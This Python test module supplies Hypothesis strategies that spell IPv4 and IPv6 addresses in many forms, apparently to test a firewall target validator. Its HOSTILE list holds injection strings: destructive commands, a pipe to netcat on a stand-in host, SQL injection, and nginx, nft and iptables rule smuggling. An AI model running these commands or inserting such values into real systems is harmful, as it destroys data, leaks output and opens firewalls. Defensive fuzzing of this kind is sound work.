"""Every spelling of an address we can think of, and hostile text, for property tests.

Strategies build candidate targets from integers (so every family and every corner
of the address space is reached) and then spell them the ways people, programs and
attackers do: compressed and exploded IPv6, upper case, IPv4-mapped and -compatible
forms, leading zeros, ranges with host bits, surrounding space, zone identifiers
carrying shell, nginx and nft syntax, and arbitrary Unicode.
"""

from __future__ import annotations

import ipaddress
import re

from hypothesis import strategies as st

# What a canonical target may look like, and nothing else.
CANONICAL = re.compile(
    r"^(?:[0-9]{1,3}(?:\.[0-9]{1,3}){3}|[0-9a-f:]*:[0-9a-f:.]*)(?:/[0-9]{1,3})?$"
)

HOSTILE = (
    "$(touch /tmp/pwned)",
    "`id`",
    "; reboot",
    "&& rm -rf /",
    "| nc 203.0.113.66 4444",
    "' OR '1'='1",
    '"; deny all; "',
    "}; flush ruleset; {",
    "\n-A INPUT -j ACCEPT",
    "${IFS}",
    "\x00",
    "\\",
    "eth0",
    "0",
    " ",
    "%",
    "١",
    "²",
)

UNICODE_DIGITS = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")
FULLWIDTH = str.maketrans("0123456789.:", "０１２３４５６７８９．：")

v4_int = st.one_of(
    st.integers(0, 2**32 - 1),
    st.sampled_from(
        [0, 1, 0x7F000001, 0xFFFFFFFF, 0xE0000001, 0xA9FEA9FE, 0xC000021E, 0xC0000200, 0x0A000201]
    ),
)
v6_int = st.one_of(
    st.integers(0, 2**128 - 1),
    st.sampled_from(
        [0, 1, 0xFFFF << 32, (0xFFFF << 32) | 0xC000021E, 0xFE80 << 112, 0xFF02 << 112]
    ),
    v4_int.map(lambda v: (0xFFFF << 32) | v),  # IPv4-mapped
    v4_int,  # IPv4-compatible (and :: / ::1)
    st.integers(0, 2**64 - 1).map(lambda low: (0x20010DB8 << 96) | low),  # one /64 of docs
)


def _v4(value: int) -> str:
    return str(ipaddress.IPv4Address(value))


def _v6(value: int) -> str:
    return str(ipaddress.IPv6Address(value))


@st.composite
def v4_spellings(draw: st.DrawFn) -> str:
    text = _v4(draw(v4_int))
    style = draw(
        st.sampled_from(["plain", "zeros", "mapped", "mapped-hex", "compatible", "padded"])
    )
    if style == "zeros":
        return ".".join(p.zfill(draw(st.integers(1, 4))) for p in text.split("."))
    if style == "mapped":
        return draw(st.sampled_from(["::ffff:", "::FFFF:", "0:0:0:0:0:ffff:"])) + text
    if style == "mapped-hex":
        v = int(ipaddress.IPv4Address(text))
        return f"::ffff:{v >> 16:x}:{v & 0xFFFF:x}"
    if style == "compatible":
        return "::" + text
    if style == "padded":
        return draw(st.sampled_from([" ", "\t", "\n"])) + text + draw(st.sampled_from(["", " "]))
    return text


@st.composite
def v6_spellings(draw: st.DrawFn) -> str:
    addr = ipaddress.IPv6Address(draw(v6_int))
    style = draw(st.sampled_from(["compressed", "exploded", "upper", "bracketed"]))
    if style == "exploded":
        return addr.exploded
    if style == "upper":
        return str(addr).upper()
    if style == "bracketed":
        return f"[{addr}]"
    return str(addr)


@st.composite
def ranges(draw: st.DrawFn) -> str:
    base = draw(st.one_of(v4_spellings(), v6_spellings()))
    plen = draw(st.one_of(st.integers(0, 128), st.sampled_from(["", "-1", "024", "٢٤", "24 "])))
    return f"{base}/{plen}"


@st.composite
def zoned(draw: st.DrawFn) -> str:
    base = draw(v6_spellings())
    zone = draw(st.one_of(st.sampled_from(HOSTILE), st.text(max_size=64)))
    return f"{base}%{zone}"


@st.composite
def with_hostile(draw: st.DrawFn) -> str:
    base = draw(st.one_of(v4_spellings(), v6_spellings()))
    payload = draw(st.sampled_from(HOSTILE))
    return draw(st.sampled_from([base + payload, payload + base, base + " " + payload]))


@st.composite
def foreign_digits(draw: st.DrawFn) -> str:
    base = draw(st.one_of(v4_spellings(), ranges()))
    return base.translate(draw(st.sampled_from([UNICODE_DIGITS, FULLWIDTH])))


def targets() -> st.SearchStrategy[str]:
    """Anything a member, partner, admin or hub might send as a target."""
    return st.one_of(
        v4_spellings(),
        v6_spellings(),
        ranges(),
        zoned(),
        with_hostile(),
        foreign_digits(),
        st.text(max_size=80),
        st.text(alphabet="0123456789abcdefABCDEF.:/%[] ", max_size=50),
    )


def is_canonical(text: str) -> bool:
    """Canonical: only ``[0-9a-f.:/]``, as :mod:`ipaddress` writes it, IPv4 never as IPv6."""
    if not isinstance(text, str) or not CANONICAL.match(text):
        return False
    net = ipaddress.ip_network(text, strict=True)
    if net.version == 6 and net.prefixlen >= 96 and int(net.network_address) >> 32 == 0xFFFF:
        return False
    host = net.prefixlen == net.max_prefixlen
    return text == (str(net.network_address) if host else net.with_prefixlen)
